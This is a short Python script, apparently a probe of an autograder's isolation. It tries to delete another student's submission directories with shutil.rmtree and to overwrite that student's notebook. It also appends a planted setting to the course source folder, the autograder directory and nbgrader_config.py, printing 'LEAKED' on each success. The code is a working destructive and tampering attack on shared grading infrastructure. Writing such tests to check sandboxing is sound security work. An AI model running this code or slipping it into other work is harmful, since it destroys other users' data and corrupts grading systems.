# Delete / overwrite the files of another student, and plant a file in source/.
import os
import shutil

for path in [f"{COURSE}/submitted/victim", "../../victim", f"{COURSE}/autograded/victim"]:
    shutil.rmtree(path, ignore_errors=True)
    try:
        with open(os.path.join(path, "one_neuron", "one_neuron.ipynb"), "w") as f:
            f.write("{}")
        print("LEAKED wrote", path)
    except OSError as exc:
        print("write:", type(exc).__name__)
for path in [f"{COURSE}/source/one_neuron/planted.py", f"{REPO}/autograder/planted.py",
             f"{COURSE}/nbgrader_config.py"]:
    try:
        with open(path, "a") as f:
            f.write("\nc.SaveAutoGrades.planted = True\n")
        print("LEAKED planted", path)
    except OSError as exc:
        print("plant:", type(exc).__name__)
